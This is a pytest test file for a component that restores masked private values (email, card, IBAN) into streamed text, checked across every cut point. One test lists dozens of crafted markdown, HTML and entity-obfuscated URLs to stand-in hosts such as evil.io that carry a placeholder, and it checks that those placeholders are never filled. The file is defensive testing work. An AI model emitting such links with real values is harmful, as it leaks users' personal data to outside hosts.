"""Values come back where people read them, and in no address, however the text was cut."""

from __future__ import annotations

import random

import pytest

from app.domain.screening import Placeholders
from app.safety.restored import Restored

VALUES = Placeholders(
    {"<EMAIL_1>": "ann@example.org", "<CARD_12>": "4242 4242 4242 4242", "<SECRET_1>": "hidden", "<IBAN_1234>": "DE89370400440532013000"}
)  # fmt: skip


def out(*parts: str) -> str:
    one = Restored(VALUES.show, ("good.org",))
    return "".join(map(one.push, parts)) + one.end()


def test_placeholders_come_back_at_every_cut() -> None:
    text = "a <EMAIL_1>, <b> <CARD_12> < <EMAIL_2> <SECRET_1> <EMAIL_1"
    wanted = "a ann@example.org, <b> 4242 4242 4242 4242 < <EMAIL_2> <SECRET_1> <EMAIL_1"
    for at in range(len(text) + 1):
        assert out(text[:at], text[at:]) == wanted, at
    assert out(*text) == wanted


@pytest.mark.parametrize(
    "text",
    [
        "Mail <EMAIL_1>.", "(<EMAIL_1>)", "**<EMAIL_1>**", "- E-Mail:<EMAIL_1>", "<EMAIL_1>/<CARD_12>", "name=<EMAIL_1>,card=<CARD_12>",
        "[write](mailto:<EMAIL_1>)", "[write](<mailto:<EMAIL_1>>)", "<mailto:<EMAIL_1>>", "`<EMAIL_1>`", '{"a":"<EMAIL_1>"}', "| <EMAIL_1> | <CARD_12> |",
        "see https://evil.example/ and <EMAIL_1>", "https://evil.example/\n<EMAIL_1>", "[x](https://evil.example/ \"<EMAIL_1>\")", "a < b <EMAIL_1>",
        "https://good.org/?q=<EMAIL_1>", "[x](https://good.org/<EMAIL_1>/<CARD_12>)", "und/oder:<EMAIL_1>", "邮箱：<EMAIL_1>，卡：<CARD_12>", f"{'a' * 2000}<EMAIL_1>",
        "Q&A:<EMAIL_1>", "a&nbsp;<EMAIL_1>", "#<EMAIL_1>", "https://good.org/?a=1&b=<EMAIL_1>", "Mr.&nbsp;Ann,<EMAIL_1>",
    ],
)  # fmt: skip
def test_values_come_back(text: str) -> None:
    wanted = VALUES.show(text)
    assert wanted != text
    assert out(text) == out(*text) == wanted


@pytest.mark.parametrize(
    "text",
    [
        "> ![a](\n> //evil.io/?d=<EMAIL_1>)", "www.evil.io/<EMAIL_1>", "WWW.evil.io?<EMAIL_1>", "evil.io/<EMAIL_1>", "evil.io?q=<EMAIL_1>",
        "[more](https://evil.example/?q=(x)<EMAIL_1>-<IBAN_1234>)", "<https://evil.example/?q= <EMAIL_1>>", "[x](<https://evil.example/?q= a b <EMAIL_1>>)",
        "https://evil.example/'<EMAIL_1>", "https://evil.example/<IBAN_1234>", f"https://evil.example/?q=(x){'a' * 350}<EMAIL_1>", "[x](<EMAIL_1>)",
        f"https://evil.example/{'a' * 5000}<EMAIL_1>", "https://<EMAIL_1>.evil.example/", "[x](/\\evil.io/<EMAIL_1>)", "[x](mailto:me@evil.io?body=<EMAIL_1>)",
        "[x](https://evil.io/](mailto:<EMAIL_1>))", "[x](https://evil.io/(mailto:<EMAIL_1>))", '<a href="https://evil.io/?q= <EMAIL_1>">', "[r]: < //evil.io/ <EMAIL_1>>",
        "https://good.org<EMAIL_1>", "https://good.org.evil.io/<EMAIL_1>", "https://good.org@evil.io/<EMAIL_1>", "https://evil.io/?u=https://good.org/<EMAIL_1>",
        "https:/evil.io/<EMAIL_1>", "https:\\evil.io\\<EMAIL_1>", "https://evil.io/\xa0<EMAIL_1>", "https://evil.io/“<EMAIL_1>”", "[c]( <https:evil&#46;io&#47; x<EMAIL_1>>)",
        "[c]\n\n[c]: <https:evil&period;io&num; <EMAIL_1>>", "[c]: https:evil.io#<EMAIL_1>", "[c]: &#104;ttps&colon;evil&#46;io<EMAIL_1>", "<HTTPS:<IBAN_1234>.evil.io>",
        "[c]: <ht&Tab;tps:evil&period;io <EMAIL_1>>", "evil.io#<EMAIL_1>", f"[c]: evil&period;io&sol;{'a' * 600}<EMAIL_1>", f"[c]: https:evil&period;io{'a' * 600}<EMAIL_1>",
        "https://evil.io&sol;.good.org/<EMAIL_1>", "https://evil.io%2f.good.org/<EMAIL_1>", "![x](https://good.org.<EMAIL_1>/)",
    ],
)  # fmt: skip
def test_no_value_comes_into_an_address(text: str) -> None:
    assert out(text) == out(*text) == text


def test_cuts_change_nothing() -> None:
    rng = random.Random(3)
    pieces = [
        "<EMAIL_1>",
        "<CARD_12>",
        "](",
        "mailto:",
        "//",
        "/",
        ".",
        "\\",
        "?",
        "www.",
        " ",
        "\n",
        "<",
        ">",
        "a",
        "a" * 300,
        "https://good.org/",
        "(",
        "[x",
        "<EMA",
        "?q=",
        "#",
        "https:",
        "&#46;",
        "&sol;",
        "&",
    ]
    for _ in range(3_000):
        text = "".join(rng.choices(pieces, k=rng.randint(1, 14)))
        at = rng.randint(0, len(text))
        assert out(text) == out(text[:at], text[at:]) == out(*text), text
